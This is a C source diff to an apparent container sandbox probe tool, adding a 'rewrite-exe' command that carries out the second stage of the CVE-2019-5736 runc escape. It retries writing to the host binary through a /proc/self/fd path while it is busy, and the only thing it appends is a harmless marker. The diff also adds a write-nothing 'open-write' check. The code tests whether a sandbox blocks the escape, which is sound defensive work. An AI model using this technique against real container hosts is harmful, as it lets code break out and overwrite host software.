@@ -91,6 +91,34 @@ static void try_socket(const char* name) {
   printf("socket_%s_errno=unknown-family\n", name);
 }
 
+/* The second stage of CVE-2019-5736 (see exe_thief.c): `fd` is an O_PATH fd of the binary the
+ * thief's process ran from. In a child (so that the exec command that started us can end), retry
+ * opening it for writing while it is busy (ETXTBSY: still executed on the host), for up to 20 s; on
+ * success append a marker. Writes "rewrite_errno=N" to `out`, 0 meaning the host binary was
+ * written. */
+static int rewrite_exe(int fd, const char* out) {
+  pid_t child = fork();
+  if (child != 0) return child < 0 ? 1 : 0;
+  setsid();
+  char path[64];
+  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+  int error = ETXTBSY;
+  for (int attempt = 0; attempt < 2000 && error == ETXTBSY; ++attempt) {
+    int target = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
+    error = target < 0 ? errno : 0;
+    if (target >= 0) {
+      if (write(target, "srcompose-probe was here\n", 25) < 0) error = errno;
+      close(target);
+    }
+    if (error == ETXTBSY) usleep(10000);
+  }
+  FILE* result = fopen(out, "w");
+  if (!result) _exit(1);
+  fprintf(result, "rewrite_errno=%d\n", error);
+  fclose(result);
+  _exit(0);
+}
+
 static volatile sig_atomic_t got_signal = 0;
 static void on_signal(int signal_number) {
   got_signal = signal_number;
@@ -143,6 +171,12 @@ int main(int argc, char** argv) {
       }
       printf("write_errno=%d\n", error);
       ++i;
+    } else if (!strcmp(command, "open-write")) {
+      /* Opens for writing and writes nothing: safe on a host file should the test fail. */
+      int fd = open(arg, O_WRONLY | O_CLOEXEC);
+      printf("open_write_errno=%d\n", fd < 0 ? errno : 0);
+      if (fd >= 0) close(fd);
+      ++i;
     } else if (!strcmp(command, "read")) {
       int fd = open(arg, O_RDONLY | O_CLOEXEC);
       int error = fd < 0 ? errno : 0;
@@ -174,6 +208,8 @@ int main(int argc, char** argv) {
     } else if (!strcmp(command, "socket")) {
       try_socket(arg);
       ++i;
+    } else if (!strcmp(command, "rewrite-exe") && i + 2 < argc) {
+      return rewrite_exe(atoi(arg), argv[i + 2]);
     } else if (!strcmp(command, "sleep")) {
       sleep((unsigned)atoi(arg));
       ++i;
